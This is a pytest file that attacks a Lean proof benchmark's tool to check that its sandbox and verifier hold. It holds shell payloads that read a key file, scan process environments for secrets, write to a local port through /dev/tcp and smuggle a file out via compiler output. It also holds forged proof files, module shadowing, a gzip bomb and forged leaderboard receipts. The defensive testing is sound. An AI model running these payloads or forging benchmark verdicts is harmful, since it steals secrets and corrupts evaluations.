"""The threat model, attack by attack (docs/compression.md, "Isolation"): refused for the right reason, or harmless.

Every attack is made here by our own code. The ones that run programs are first run without a sandbox, on themselves
alone, to show that they would do harm: an attack that does nothing proves nothing.
"""

import http.server
import json
import os
import secrets
import socket
import subprocess
import sys
import tarfile
import threading
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from proverbench.compression.authoring import Order, make_task, write_task
from proverbench.compression.bundle import Extras, bundle_name, pack, pack_members, unpack_members
from proverbench.compression.checking import check_sources, compile_background
from proverbench.compression.hashing import sha256_hex
from proverbench.compression.isolation import UNSAFE, python
from proverbench.compression.kernel import LeanKernel, find_library
from proverbench.compression.limits import Allowance, StoppedError
from proverbench.compression.tasks import Task, load_task, shipped_tasks
from tests.compression.hostile import UNPACK, archive, shell_source, with_false_proofs
from tests.support import wait_for

MAIN = "import sys; from proverbench.compression.cli import main; sys.argv[0] = 'compressionbench'; main()"


@dataclass(frozen=True)
class Done:
    """How a command ended."""

    code: int
    out: str
    said: str


def tool(*args: object, cwd: Path, env: dict[str, str] | None = None, main: str = MAIN) -> Done:
    """The command in a process of its own, as an attack on this one would be no fair test."""
    root = str(Path(__file__).resolve().parents[2])
    done = subprocess.run(
        [sys.executable, "-c", f"import sys; sys.path.insert(0, {root!r}); {main}", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        check=False,
    )
    assert "Traceback" not in done.stdout + done.stderr
    return Done(done.returncode, done.stdout, done.stdout + done.stderr)


@pytest.fixture
def scene(tmp_path: Path, kernel: LeanKernel) -> Path:
    """The task nat-add in a folder, to be attacked."""
    write_task(load_task(shipped_tasks()["nat-add"]), tmp_path / "t")
    return tmp_path


def work(scene: Path, source: str | bytes) -> None:
    data = source if isinstance(source, bytes) else source.encode()
    (scene / "t" / "work" / "Addition.lean").write_bytes(data)


@pytest.fixture(scope="module")
def nat_add() -> Task:
    return load_task(shipped_tasks()["nat-add"])


@pytest.fixture
def unsafe() -> LeanKernel:
    library = find_library()
    assert library is not None
    return LeanKernel(library, Allowance(), UNSAFE)


# --- code that runs while a file compiles


def test_the_payload_does_run_a_shell_where_nothing_holds_it(nat_add: Task, unsafe: LeanKernel, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    check_sources(nat_add, {"Addition.lean": shell_source(f"echo out > {mark}").encode()}, unsafe)
    assert mark.read_text() == "out\n"


@pytest.mark.parametrize("command", ["check", "submit", "share", "report"])
def test_no_command_lets_a_file_write_outside(scene: Path, command: str) -> None:
    mark = scene / "mark"
    work(scene, shell_source(f"echo out > {mark}"))
    extra = {"share": ["--work", scene / "t" / "work"]}.get(command, [])
    done = tool(command, "t", *extra, cwd=scene)
    assert done.code == 1
    assert not mark.exists()


def test_a_model_s_reply_does_not_run_on_the_user_s_machine(scene: Path) -> None:
    mark = scene / "mark"
    files = f'<file name="Addition.lean">\n{shell_source(f"cat $HOME/key > {mark}; echo out > {mark}")}\n</file>'
    with _model(files) as base_url:
        (scene / "m.toml").write_text(
            f'[endpoint.m]\nkind = "openai"\nbase_url = "{base_url}"\napi_key_env = "ATTACK_KEY"\n\n'
            '[policy]\nendpoint = "m"\nmodel = "m"\n'
        )
        done = tool("attempt", "t", "--config", "m.toml", "--rounds", 1, cwd=scene, env={"ATTACK_KEY": "secret"})
    assert (done.code, mark.exists()) == (0, False)
    assert "round 1: invalid" in done.said


class _model:  # noqa: N801 - reads as what it is: with a model
    """An endpoint on this machine whose model always gives the same answer."""

    def __init__(self, text: str) -> None:
        usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
        choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}
        body = json.dumps(
            {"id": "x", "object": "chat.completion", "created": 1, "model": "m", "usage": usage} | {"choices": [choice]}
        )

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length", 0)))
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def __enter__(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def __exit__(self, *args: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def test_a_message_of_the_compiler_cannot_carry_a_file_out(scene: Path) -> None:
    secret = "canary-" + secrets.token_hex(8)
    (scene / "secret.txt").write_text(secret)
    line = b'{"severity":"error","pos":{"line":1,"column":0},"fileName":"A","data":"SECRET"}'
    say = f"sed -n 's/^--@//p' Addition.lean | base64 -d | sed s/SECRET/$(cat {scene}/secret.txt)/ > /proc/$PPID/fd/1"
    work(scene, shell_source(say, line))
    done = tool("check", "t", cwd=scene)
    assert done.code in (1, 3)
    assert secret not in done.said


def test_environments_of_the_user_s_processes_are_not_seen(scene: Path) -> None:
    mark = scene / "mark"
    command = f"grep -azl ATTACK_KEY=secret /proc/[0-9]*/environ && echo found > {mark}"
    work(scene, shell_source(command))
    assert tool("check", "t", cwd=scene, env={"ATTACK_KEY": "secret"}).code == 1
    assert not mark.exists()


def test_no_server_of_this_machine_is_reached(scene: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        work(scene, shell_source(f"bash -c 'echo x > /dev/tcp/127.0.0.1/{server.getsockname()[1]}'"))
        assert tool("check", "t", cwd=scene).code == 1
        with pytest.raises(TimeoutError):
            server.accept()


def test_no_process_is_left_behind(scene: Path) -> None:
    nonce = f"{30_000 + secrets.randbelow(9_999)}.{secrets.randbelow(10**6)}"
    work(scene, shell_source(f"setsid sleep {nonce} < /dev/null > /dev/null 2>&1 &"))
    assert tool("check", "t", cwd=scene).code == 1
    wait_for(lambda: not _running(nonce), why=lambda: str(_running(nonce)))


def test_what_takes_too_long_is_stopped_with_all_that_it_started(scene: Path) -> None:
    toml = scene / "t" / "task.toml"
    toml.write_text(toml.read_text().replace("time_s = 600", "time_s = 3"))
    nonce = f"{30_000 + secrets.randbelow(9_999)}.{secrets.randbelow(10**6)}"
    work(scene, shell_source(f"sleep {nonce}"))
    done = tool("check", "t", "--json", cwd=scene)
    assert (done.code, json.loads(done.out)["verdict"]) == (3, None)
    assert "more than 3 s" in json.loads(done.out)["stopped"][0]
    wait_for(lambda: not _running(nonce), why=lambda: str(_running(nonce)))


def _running(nonce: str) -> list[str]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if nonce.encode() in path.read_bytes().split(b"\0"):
                found.append(path.parent.name)
        except OSError:
            continue
    return found


# --- code that forges a verdict


@pytest.fixture(scope="module")
def false_olean(nat_add: Task, kernel: LeanKernel) -> bytes:
    background = compile_background(nat_add, kernel).oleans["Base.lean"]
    done = kernel.compile("Addition.lean", {"Base.olean": background, **nat_add.original})
    assert done.olean is not None
    return with_false_proofs(done.olean, nat_add.spec.targets)


FALSE_PACKAGE = {
    "proverbench/__init__.py": b"",
    "proverbench/compression/__init__.py": b"",
    "proverbench/compression/judging.py": b"print('{}')",
    "proverbench/compression/worker.py": b"print('{}')",
    "json.py": b"raise SystemExit('shadowed')",
}


@pytest.mark.parametrize("files", [{}, FALSE_PACKAGE], ids=["olean", "olean and packages"])
def test_false_proofs_in_a_compiled_file_meet_the_kernel(
    scene: Path, false_olean: bytes, files: dict[str, bytes]
) -> None:
    """The shell puts a compiled file with false proofs in place, and packages where a process might start."""
    work(scene, shell_source(UNPACK, archive({"Addition.olean": false_olean, **files})))
    done = tool("check", "t", "--json", cwd=scene)
    found = json.loads(done.out)
    assert (done.code, found["verdict"], found["count"] is None) == (1, "invalid", False)
    assert all(f"kernel: {name}: " in " ".join(found["problems"]) for name in found["charges"] if name == "N.add_comm")


def test_a_forged_bundle_is_refused_by_the_verifier_s_kernel(scene: Path, nat_add: Task, false_olean: bytes) -> None:
    """A participant's own tool can be bent to pack anything; whoever verifies it runs the kernel."""
    library = find_library()
    assert library is not None
    honest = check_sources(nat_add, nat_add.original, LeanKernel(library, Allowance()))
    source = shell_source(UNPACK, archive({"Addition.olean": false_olean, **FALSE_PACKAGE})).encode()
    lie = replace(honest, sources={"Addition.lean": source})
    data = pack(lie, Extras(agent="mallory"))
    path = scene / bundle_name(data)
    path.write_bytes(data)
    done = tool("verify", path, "--task", "t", cwd=scene)
    assert (done.code, "kernel: N.add_comm: " in done.said) == (1, True)


def test_the_background_cannot_be_rewritten(scene: Path, nat_add: Task, kernel: LeanKernel) -> None:
    """A file that imports nothing compiled first once, and rewrote the background with a free lemma in it."""
    base = nat_add.below("background")["Base.lean"] + b"theorem gift (p : Prop) (h : p) : p := h\n"
    own = nat_add.original["Addition.lean"] + b"theorem use (p : Prop) (h : p) : p := gift p h\n"
    built = kernel.compile("Base.lean", {"Base.lean": base})
    assert built.olean is not None
    done = kernel.compile("Addition.lean", {"Base.olean": built.olean, "Addition.lean": own})
    assert done.olean is not None
    files = {"Base.lean": base, "Base.olean": built.olean, "Addition.olean": done.olean}
    work(scene, shell_source(UNPACK, archive(files), imports=""))
    found = tool("check", "t", "--json", cwd=scene)
    assert json.loads(found.out)["problems"] == ["use: the constant gift is not declared"] or (
        found.code == 1 and any("gift" in problem for problem in json.loads(found.out)["problems"])
    )


def test_a_background_name_declared_again_is_refused(nat_add: Task, kernel: LeanKernel, scene: Path) -> None:
    built = kernel.compile("Addition.lean", {"Addition.lean": nat_add.below("background")["Base.lean"]})
    assert built.olean is not None
    work(scene, shell_source(UNPACK, archive({"Addition.olean": built.olean}), imports=""))
    found = json.loads(tool("check", "t", "--json", cwd=scene).out)
    assert found["verdict"] == "invalid"
    assert "background redeclared: Eq" in found["problems"]


def test_another_background_than_the_pinned_is_refused(nat_add: Task, kernel: LeanKernel) -> None:
    """The hashes of its constants decide, whatever the bytes."""
    spec = nat_add.spec
    first = next(iter(spec.provided))
    other = spec.model_copy(update={"provided": {**spec.provided, first: "0" * 64}})
    toml = nat_add.toml.replace(spec.provided[first].encode(), b"0" * 64)
    changed = Task(other, toml, nat_add.files, "other")
    check = check_sources(changed, nat_add.original, kernel)
    assert (check.verdict, check.problems) == ("invalid", (f"background changed: {first}",))


def test_a_lying_stage_is_not_believed(nat_add: Task, kernel: LeanKernel, monkeypatch: pytest.MonkeyPatch) -> None:
    """An answer without the number that was sent, whatever else it says, is not a verdict."""
    answer = json.dumps({"nonce": "0" * 64, "verdict": "valid", "problems": [], "charge": [], "provided": []})
    monkeypatch.setattr(
        "proverbench.compression.kernel._launching",
        lambda module: [python(), "-I", "-S", "-c", f"import sys; sys.stdin.buffer.read(); print({answer!r})"],
    )
    with pytest.raises(StoppedError, match="ended without a verdict"):
        check_sources(nat_add, nat_add.original, kernel)


def test_leaving_early_with_success_is_no_compiled_file(scene: Path) -> None:
    source = shell_source("true").replace("IO.Process.exit (IO.Process.output start X.x X.x)", "IO.Process.exit X.x")
    work(scene, source)
    done = tool("check", "t", "--json", cwd=scene)
    assert (done.code, json.loads(done.out)["verdict"]) == (1, "invalid")
    assert "no compiled file" in json.loads(done.out)["problems"][0]


# --- where there is no sandbox


NOTHING = "import proverbench.compression.isolation as i; i._probe = lambda means: 'not allowed here'; "


def test_without_isolation_nothing_runs_and_the_key_is_not_read(scene: Path, nat_add: Task, kernel: LeanKernel) -> None:
    data = pack(check_sources(nat_add, nat_add.original, kernel), Extras(agent="alice"))
    path = scene / bundle_name(data)
    path.write_bytes(data)
    key = scene / "key.pem"
    os.mkfifo(key)  # whoever opens it waits for ever
    done = tool("check", "t", "--json", cwd=scene, main=NOTHING + MAIN)
    assert (done.code, json.loads(done.out)["verdict"]) == (3, None)
    assert "apt-get install bubblewrap" in done.said
    key.unlink()
    assert tool("keygen", key, cwd=scene).code == 0
    for options in ([], ["--key", key]):
        done = tool("verify", path, "--task", "t", *options, cwd=scene, main=NOTHING + MAIN)
        assert (done.code, list(scene.glob("receipt-*"))) == (3, [])
    unsafe = tool("verify", path, "--task", "t", "--unsafe", cwd=scene, main=NOTHING + MAIN)
    assert (unsafe.code, "isolation none" in unsafe.said) == (0, True)
    refused = tool("verify", path, "--task", "t", "--unsafe", "--key", key, cwd=scene, main=NOTHING + MAIN)
    assert (refused.code, "--key does not sign what was checked with --unsafe" in refused.said) == (1, True)


def test_nothing_in_the_working_folder_is_imported(scene: Path) -> None:
    for name in ("json", "struct", "ctypes", "msgspec"):
        (scene / f"{name}.py").write_text(f"open({str(scene / 'mark')!r}, 'w')\nraise ImportError('shadowed')\n")
    (scene / "proverbench").mkdir()
    (scene / "proverbench" / "__init__.py").write_text("raise ImportError('shadowed')")
    installed = Path(sys.executable).with_name("compressionbench")
    done = subprocess.run([str(installed), "--version"], cwd=scene, capture_output=True, check=False)
    assert done.returncode == 0
    done = subprocess.run([str(installed), "check", "t"], cwd=scene, capture_output=True, text=True, check=False)
    assert (done.returncode, (scene / "mark").exists()) == (0, False), done.stderr


# --- frozen definitions


BASE = """prelude
set_option linter.all false
unsafe axiom lcAny : Type
unsafe axiom lcErased : Type
unsafe axiom lcProof {α : Prop} : α
inductive Eq {α : Sort u} (a : α) : α → Prop where
  | refl : Eq a a
theorem Eq.trans {α : Sort u} {a b c : α} (h : Eq a b) (k : Eq b c) : Eq a c :=
  Eq.rec (motive := fun x _ => Eq a x) h k
"""
MAIN_FILE = """prelude
import Base
set_option linter.all false
inductive N where
  | z
  | s (n : N)
structure Same (a : N) where
  other : N
  val : N
  property : Eq val a
theorem detour (a : N) : Eq a a := Eq.trans (b := a) Eq.refl Eq.refl
def Fixed (f : N → N) (n : N) : Prop := Eq (f n) n
noncomputable def here (a : N) : Same a := Same.mk N.z a (Eq.trans (b := a) Eq.refl Eq.refl)
noncomputable def under (a : N) (h : Eq a a) : Same a := Same.mk a a (let k : Eq a a := h; k)
noncomputable def named (a : N) : Same a := Same.mk N.z a (detour a)
noncomputable def typed (a : N) : N → N := fun x => (fun (_ : Eq x x) => x) (Eq.trans (b := x) Eq.refl Eq.refl)
theorem here_val (a : N) : Eq (here a).val a := Eq.trans (b := a) Eq.refl Eq.refl
theorem under_val (a : N) (h : Eq a a) : Eq (under a h).val a := Eq.refl
theorem named_val (a : N) : Eq (named a).val a := Eq.refl
theorem typed_val (a : N) : Eq (typed a a) a := Eq.refl
theorem fixed (n : N) : Fixed (fun x => x) n := Eq.trans (b := n) Eq.refl Eq.refl
"""
TARGETS = ["here_val", "under_val", "named_val", "typed_val", "fixed"]


@pytest.fixture(scope="module")
def same_task(kernel: LeanKernel) -> Task:
    files = {"Base.lean": BASE.encode(), "Main.lean": MAIN_FILE.encode()}
    return make_task(files, Order("same", TARGETS, editable=["Main.lean"]), kernel)


@pytest.mark.parametrize(
    ("old", "new", "verdict"),
    [
        ("Same.mk N.z a (Eq.trans (b := a) Eq.refl Eq.refl)", "Same.mk N.z a Eq.refl", "valid"),
        ("(let k : Eq a a := h; k)", "h", "valid"),
        ("(let k : Eq a a := h; k)", "Eq.refl", "valid"),
        ("(detour a)", "Eq.refl", "valid"),
        ("(Eq.trans (b := x) Eq.refl Eq.refl)", "Eq.refl", "valid"),
        ("Same.mk N.z a (Eq.trans", "Same.mk (N.s N.z) a (Eq.trans", "invalid"),
        ("Prop := Eq (f n) n", "Prop := Eq n n", "invalid"),
        ("(fun (_ : Eq x x) => x)", "(fun (_ : Eq x x) => a)", "invalid"),
        ("  other : N\n", "  other : N → N\n", "invalid"),
    ],
)
def test_proofs_inside_frozen_definitions_may_change_and_nothing_else(
    same_task: Task, kernel: LeanKernel, old: str, new: str, verdict: str
) -> None:
    assert old in MAIN_FILE
    changed = MAIN_FILE.replace(old, new)
    if "N → N\n" in new:
        changed = changed.replace("Same.mk N.z", "Same.mk (fun x => x)")
        changed = changed.replace("Same.mk a a", "Same.mk (fun x => x) a")
    check = check_sources(same_task, {"Main.lean": changed.encode()}, kernel)
    assert check.verdict == verdict, check.problems
    if verdict == "invalid":
        assert any("frozen definition changed" in problem for problem in check.problems), check.problems


# --- bundles


@pytest.fixture(scope="module")
def honest(nat_add: Task, kernel: LeanKernel) -> bytes:
    return pack(check_sources(nat_add, nat_add.original, kernel), Extras(agent="alice"))


def test_a_bomb_is_refused_without_being_unpacked(scene: Path) -> None:
    packed = _bomb(1_200)
    path = scene / bundle_name(packed)
    path.write_bytes(packed)
    small = "import resource; resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30)); "
    done = tool("verify", path, cwd=scene, main=small + MAIN)
    assert (done.code, "unpacks to more than 256 MiB" in done.said) == (1, True)


def _bomb(mib: int) -> bytes:
    info = tarfile.TarInfo("terms.ndjson")
    info.size = mib * 2**20
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    pieces = [squeeze.compress(info.tobuf()), *(squeeze.compress(bytes(2**20)) for _ in range(mib)), squeeze.flush()]
    return b"".join(pieces)


def test_too_many_members_are_refused(honest: bytes, scene: Path) -> None:
    members = unpack_members(honest, source="b") | {f"log/{number}": b"" for number in range(1_000)}
    data = pack_members(members)
    path = scene / bundle_name(data)
    path.write_bytes(data)
    done = tool("verify", path, "--task", "t", cwd=scene)
    assert (done.code, "more than 1,000 members" in done.said) == (1, True)


# --- a made-up leaderboard


def test_only_trusted_receipts_of_the_organiser_s_tasks_have_places(
    scene: Path, nat_add: Task, honest: bytes, kernel: LeanKernel
) -> None:
    """Forged, copied, late, foreign and unsigned receipts, and those of other tasks, stand apart with the reason."""
    key, other = scene / "key.pem", scene / "other.pem"
    public = tool("keygen", key, cwd=scene).out.split()[-1]
    tool("keygen", other, cwd=scene)
    board = scene / "board"
    board.mkdir()
    mine = _received(scene, honest, board, "alice", "--task", "t", "--key", key)
    bob = _repack(honest, agent="bob")
    _received(scene, bob, board, "bob", "--task", "t", "--key", other)
    carol = _repack(honest, agent="carol")
    _received(scene, carol, board, "carol", "--task", "t")
    (board / "receipt-copied.json").write_text(mine.read_text())
    forged = json.loads(mine.read_text())
    forged["parts"]["scores"]["count"] = 3
    (board / "receipt-forged.json").write_text(json.dumps(forged))
    late = json.loads(mine.read_text()) | {"verified_at": "2199-01-01T00:00:00+00:00"}
    (board / "receipt-late.json").write_text(json.dumps(late))
    toy = make_task({"Main.lean": TOY.encode()}, Order("toy", ["t"]), kernel)
    toy_bundle = pack(check_sources(toy, toy.original, kernel), Extras(agent="dave"))
    own = _received(scene, toy_bundle, board, "own")
    assert json.loads(own.read_text())["parts"]["verifier"]["task_source"] == "bundle"
    refused = tool("verify", _bundle(scene, toy_bundle), "--key", key, cwd=scene)
    assert (refused.code, "--key signs only what an organiser's task" in refused.said) == (1, True)

    options = ("--task", "t", "--trust", public, "--json")
    found = json.loads(tool("rank", "board", *options, cwd=scene).out)
    assert [line["agent"] for line in found["standings"]] == ["alice"]
    assert found["standings"][0]["counts"] == {nat_add.sha256: 1172}
    reasons = {Path(item["receipt"]).stem: item["reason"] for item in found["apart"]}
    copies = sorted(name for name, why in reasons.items() if why == "this submission counts already")
    assert len(copies) == 1
    assert reasons["receipt-forged"].startswith("scores: changed after the receipt was made")
    assert reasons["receipt-late"] == "signature: does not match what the receipt says"
    rest = sorted(why.split(" ")[0] for name, why in reasons.items() if name.startswith("receipt-") and len(name) > 16)
    assert rest.count("unsigned:") == 2
    assert rest.count("signed") == 1
    closed = json.loads(tool("rank", "board", *options, "--until", "2020-01-01", cwd=scene).out)
    assert closed["standings"] == []
    assert any(item["reason"].startswith("late: made ") for item in closed["apart"])
    for missing in (("--task", "t"), ("--trust", public), ()):
        done = tool("rank", "board", *missing, "--json", cwd=scene)
        assert (done.code, json.loads(done.out)["standings"]) == (1, [])
    (scene / "ranking.toml").write_text(f'tasks = ["t"]\ntrust = ["{public}"]\n')
    by_file = json.loads(tool("rank", "board", "--ranking", "ranking.toml", "--json", cwd=scene).out)
    assert by_file["standings"] == found["standings"]


TOY = "prelude\nset_option linter.all false\ntheorem t (p : Prop) (h : p) : p := h\n"


def _bundle(scene: Path, data: bytes) -> Path:
    path = scene / bundle_name(data)
    path.write_bytes(data)
    return path


def _received(scene: Path, data: bytes, board: Path, name: str, *options: object) -> Path:
    done = tool("verify", _bundle(scene, data), "--output", board / name, *options, cwd=scene)
    assert done.code == 0, done.said
    return next((board / name).glob("receipt-*.json"))


def _repack(data: bytes, **changes: object) -> bytes:
    members = unpack_members(data, source="b")
    spec = json.loads(members["submission.json"]) | changes
    spec["files"] = {path: sha256_hex(content) for path, content in members.items() if path != "submission.json"}
    return pack_members({**members, "submission.json": json.dumps(spec).encode()})


# --- the shared folder of attacks, where there is one


SHARED = Path(__file__).resolve().parents[3] / "shared" / "data" / "lean" / "attacks"


def _shared() -> Iterator[str]:
    if (SHARED / "expected.json").is_file():
        yield from json.loads((SHARED / "expected.json").read_text(encoding="utf-8"))["attacks"]


@pytest.mark.parametrize("name", list(_shared()))
def test_shared_attacks(name: str, tmp_path: Path, kernel: LeanKernel) -> None:
    """Each attack of the shared folder is answered as it says."""
    bin_folder = Path(sys.executable).parent
    env = {**os.environ, "PATH": f"{bin_folder}{os.pathsep}{os.environ['PATH']}", "TMPDIR": str(tmp_path)}
    command = [sys.executable, str(SHARED / "attacks.py"), "-v", name]
    done = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, check=False)
    if name == "receipt-fields":
        # The runner takes an empty list for "one of none", so what was seen decides: nothing went unnoticed.
        assert "unnoticed: wanted [], saw []" in done.stdout, done.stdout
    else:
        assert done.returncode == 0, done.stdout + done.stderr
